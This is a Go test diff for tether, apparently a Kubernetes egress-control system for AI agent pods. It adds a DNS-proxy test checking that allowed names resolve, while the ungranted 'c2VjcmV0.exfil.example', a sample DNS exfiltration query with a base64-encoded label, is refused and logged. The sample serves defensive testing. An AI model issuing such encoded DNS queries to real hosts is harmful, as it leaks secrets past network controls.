@@ -4,6 +4,7 @@ import (
 	"context"
 	"encoding/json"
 	"fmt"
+	"net/netip"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -17,6 +18,8 @@ import (
 	"helm.sh/helm/v3/pkg/action"
 	"helm.sh/helm/v3/pkg/chart/loader"
 	"k8s.io/cli-runtime/pkg/genericclioptions"
+
+	"github.com/tether-sh/tether/internal/dnstest"
 )
 
 // The agent the node test runs: a pod in namespace agents with service account coder.
@@ -35,7 +38,11 @@ var nodePolicyData = map[string]any{
 			"k8s-test": map[string]any{
 				"exec":      []string{"/usr/local/bin/podagent", "/usr/bin/allowed", "/usr/bin/victim"},
 				"high_risk": []string{}, "network_egress": []string{}, "unix": []string{},
-				"egress": []any{map[string]any{"cidr": grantedHost + "/32", "ports": []int{hostPort}, "protocol": "tcp"}},
+				"egress": []any{
+					map[string]any{"cidr": grantedHost + "/32", "ports": []int{hostPort}, "protocol": "tcp"},
+					// Resolved through the DNS proxy (namedHost, which no other rule grants).
+					map[string]any{"fqdn": "*.k8s.test", "ports": []int{hostPort}, "protocol": "tcp"},
+				},
 				// The agent container serves on 8080 (the kill test sees it stop answering).
 				"listen": []any{map[string]any{"ports": []int{8080}, "protocol": "tcp"}},
 			},
@@ -118,6 +125,10 @@ func TestNode(t *testing.T) {
 	c := startCluster(t, bin, images)
 	c.podagent = filepath.Join(dir, "bin", "podagent")
 	c.startHosts(c.podagent)
+	// The DNS proxy's upstream, on the bridge (tetherd's pod reaches it as it does the API server).
+	c.dns = dnstest.StartAt(t, netip.AddrPortFrom(netip.MustParseAddr(bridgeAddr), 0))
+	c.dns.Set("svc.k8s.test", 30, netip.MustParseAddr(namedHost))
+	c.dns.Set("c2VjcmV0.exfil.example", 30, netip.MustParseAddr(namedHost))
 	t.Logf("node Ready after %v", time.Since(start).Round(time.Second))
 
 	pinDir := "/sys/fs/bpf/tether-test-k8s-" + filepath.Base(c.hostsNetns)[len("tether-test-k8s-"):]
@@ -138,6 +149,7 @@ func TestNode(t *testing.T) {
 		run  func(*testing.T)
 	}{
 		{"agent", n.nodeAgent},
+		{"dns", n.nodeDNS},
 		{"exec", n.nodeExec},
 		{"not agents", n.nodeNotAgents},
 		{"cluster kill", n.nodeClusterKill},
@@ -182,6 +194,38 @@ func (n *node) nodeAgent(t *testing.T) {
 	want := podRef{Node: nodeName, Namespace: agentNS, Pod: "agent", Container: "coder"}
 	if rec.Kubernetes == nil || *rec.Kubernetes != want {
 		t.Errorf("the denial names %+v, want %+v", rec.Kubernetes, want)
+	}
+}
+
+// nodeDNS is the "dns" part of TestNode: the agent pod's DNS, to any resolver address, goes to
+// the DNS proxy in tetherd's pod; a name its rule covers is answered as from the resolver asked
+// and its address granted, a name none covers is NXDOMAIN and never reaches the server.
+func (n *node) nodeDNS(t *testing.T) {
+	named := fmt.Sprintf("%s:%d", namedHost, hostPort)
+	if out, err := n.podExec("agent", "podagent", "connect", named); err == nil {
+		t.Fatalf("the named host before its name was asked: %s", out)
+	}
+	// 192.0.2.53 (TEST-NET-1) is no server: only the proxy can answer.
+	out, err := n.podExec("agent", "podagent", "dns", "192.0.2.53:53", "svc.k8s.test.")
+	if err != nil || !strings.Contains(out, namedHost) {
+		t.Fatalf("svc.k8s.test from the agent pod: %v\n%s", err, out)
+	}
+	if out, err := n.podExec("agent", "podagent", "connect", named); err != nil || !strings.Contains(out, "tether-k8s") {
+		t.Errorf("the named host right after its answer: %v\n%s", err, out)
+	}
+	asked := n.dns.Queries()
+	out, err = n.podExec("agent", "podagent", "dns", "192.0.2.53:53", "c2VjcmV0.exfil.example.")
+	if err == nil || !strings.Contains(out, "no such host") {
+		t.Errorf("an ungranted name from the agent pod: %v\n%s", err, out)
+	}
+	if got := n.dns.Queries() - asked; got != 0 {
+		t.Errorf("the server got %d queries for an ungranted name", got)
+	}
+	rec := n.waitRecord(t, func(r record) bool {
+		return r.Kind == "dns" && r.SpiffeID == agentID && r.Verdict == "deny" && r.DNS != nil && r.DNS.Name == "c2VjcmV0.exfil.example"
+	})
+	if rec.Kubernetes == nil || rec.Kubernetes.Pod != "agent" || rec.DNS.Rcode != "NXDOMAIN" {
+		t.Errorf("the refused query's record: %+v %+v", rec.Kubernetes, rec.DNS)
 	}
 }
 
@@ -632,6 +676,9 @@ func (c *cluster) installChart(pinDir string) {
 		"resources":             map[string]any{"requests": map[string]any{"cpu": "10m", "memory": "32Mi"}},
 		"omitCapabilities":      c.missingCapabilities(),
 	}
+	if c.dns != nil {
+		values["dns"] = map[string]any{"server": c.dns.Addr, "proxy": map[string]any{"enabled": true}}
+	}
 	// PID 1 of this machine is in a user namespace above the test's, so its namespaces cannot be
 	// read even as root; containerd gives containers a cgroup namespace of their own only on
 	// cgroup2-only nodes, so on a hybrid one tetherd is in the node's already (and refuses to
@@ -733,6 +780,10 @@ type record struct {
 	PID         uint32    `json:"pid"`
 	Timestamp   time.Time `json:"timestamp"`
 	Kubernetes  *podRef   `json:"kubernetes"`
+	DNS         *struct {
+		Name  string `json:"name"`
+		Rcode string `json:"rcode"`
+	} `json:"dns"`
 }
 
 type podRef struct {
